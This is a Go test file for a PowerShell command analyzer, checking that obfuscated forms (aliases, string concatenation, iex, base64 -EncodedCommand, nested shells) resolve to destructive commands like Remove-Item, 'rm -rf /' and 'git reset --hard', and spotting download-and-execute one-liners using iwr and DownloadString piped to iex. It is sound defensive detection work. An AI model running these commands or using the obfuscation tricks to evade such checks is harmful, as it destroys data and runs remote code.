package shellcommand

import (
	"encoding/base64"
	"testing"
	"unicode/utf16"

	"github.com/stretchr/testify/require"
)

func encoded(s string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return base64.StdEncoding.EncodeToString(b)
}

func TestPowerShell(t *testing.T) {
	for _, c := range [][2]string{
		{`Remove-Item -Recurse -Force C:\Users`, `Remove-Item -Recurse -Force C:\Users`},
		{`rm -r -fo x`, `Remove-Item -r -fo x`},
		{`RI x; git push -f`, `git push -f`},
		{"r`m x", "Remove-Item x"},
		{`& 'rm' x`, "Remove-Item x"},
		{`& ('r'+'m') x`, "Remove-Item x"},
		{`$x = 'r' + 'm'; & $x foo`, "Remove-Item foo"},
		{`$x='ie'+'x'; & $x "rm foo"`, "Remove-Item foo"},
		{`iex 'rm foo'`, "Remove-Item foo"},
		{`'rm foo' | iex`, "Remove-Item foo"},
		{`Invoke-Expression -Command "rm foo"`, "Remove-Item foo"},
		{`if (Test-Path x) { rm foo }`, "Remove-Item foo"},
		{`ls | % { rm foo }`, "Remove-Item foo"},
		{`Invoke-Command -ScriptBlock { rm foo }`, "Remove-Item foo"},
		{`& { rm foo }`, "Remove-Item foo"},
		{`cmd /c "git reset --hard"`, "git reset --hard"},
		{`powershell -NoProfile -c "rm foo"`, "Remove-Item foo"},
		{`powershell -ep bypass -enc ` + encoded("rm foo"), "Remove-Item foo"},
		{`pwsh -EncodedCommand ` + encoded("rm foo"), "Remove-Item foo"},
		{`Start-Process powershell -ArgumentList '-c','rm foo' -Verb RunAs`, "Remove-Item foo"},
		{`bash -c 'rm -rf /'`, "rm -rf /"},
		{`true && rm foo`, "Remove-Item foo"},
		{`false || rm foo`, "Remove-Item foo"},
		{`Set-Alias zz Remove-Item; zz foo`, "Remove-Item foo"},
		{`[IO.File]::Delete('x')`, "IO.File::Delete x"},
		{`iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('` + encoded("rm foo") + `')))`, "Remove-Item foo"},
		{"# x\n<# rm y #> rm foo # z", "Remove-Item foo"},
	} {
		t.Run(c[0], func(t *testing.T) {
			a := AnalyzePowerShell(c[0], here)
			consistent(t, a)
			require.Contains(t, all(a), c[1])
		})
	}
	a := AnalyzePowerShell(`iwr http://h/x | iex`, here)
	require.Equal(t, []EdgeKind{EdgePipe}, kinds(t, a, "Invoke-WebRequest http://h/x", "Invoke-Expression"))
	require.Equal(t, []Opacity{OpaqueShellCode}, a.Opaque)
	a = AnalyzePowerShell(`iex (New-Object Net.WebClient).DownloadString('http://h/x')`, here)
	require.Equal(t, []EdgeKind{EdgeArgument}, kinds(t, a, "DownloadString http://h/x", "Invoke-Expression …"))
	find(t, Analyze(`powershell -enc `+encoded("rm foo"), here), "Remove-Item foo")
	for _, line := range []string{`Write-Output "rm -rf /"`, `git commit -m 'rm x'`, "@'\nrm x\n'@ | Set-Content f", `$x = 'rm y'`} {
		for _, c := range AnalyzePowerShell(line, here).Commands {
			require.NotEqual(t, "Remove-Item", c.Program, line)
		}
	}
}
